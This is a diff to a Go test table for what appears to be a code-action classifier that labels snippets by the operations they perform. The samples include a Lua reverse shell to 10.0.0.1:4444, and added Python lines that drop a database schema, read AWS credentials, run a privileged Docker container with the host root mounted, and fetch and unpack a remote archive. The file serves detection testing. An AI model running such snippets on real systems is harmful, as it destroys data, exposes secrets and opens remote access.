@@ -464,6 +464,16 @@ async def main():
 	{"lua", `local s=require("socket"); local t=assert(s.tcp()); t:connect("10.0.0.1",4444); while true do local r=t:receive(); local f=io.popen(r) end`,
 		[]string{"unknown", "download 10.0.0.1:4444 | sh"}},
 	{"lua", `print("hello")`, []string{"unknown"}},
+	{"python", `import psycopg2; psycopg2.connect("host=db").cursor().execute("DROP SCHEMA public CASCADE")`,
+		[]string{"run sql DROP SCHEMA public CASCADE"}},
+	{"python", "import sqlite3\ncon = sqlite3.connect(\"dev.db\")\ncon.execute(\"DROP TABLE IF EXISTS t\")",
+		[]string{"read /w/dev.db", "write /w/dev.db"}},
+	{"python", "import configparser\nc = configparser.ConfigParser()\nc.read(\"/home/a/.aws/credentials\")",
+		[]string{"read /home/a/.aws/credentials"}},
+	{"python", "import docker\ndocker.from_env().containers.run(\"alpine\", \"id\", privileged=True, volumes={\"/\": {\"bind\": \"/host\"}})",
+		[]string{"run docker run --privileged -v /:/host"}},
+	{"python", "import urllib.request, zipfile, io\nz = zipfile.ZipFile(io.BytesIO(urllib.request.urlopen(\"https://h.example/t.zip\").read()))\nz.extractall(\"/tmp/t\")",
+		[]string{"connect https://h.example/t.zip", "write -r /tmp/t", "download https://h.example/t.zip > /tmp/t"}},
 }
 
 func TestCodeTable(t *testing.T) {
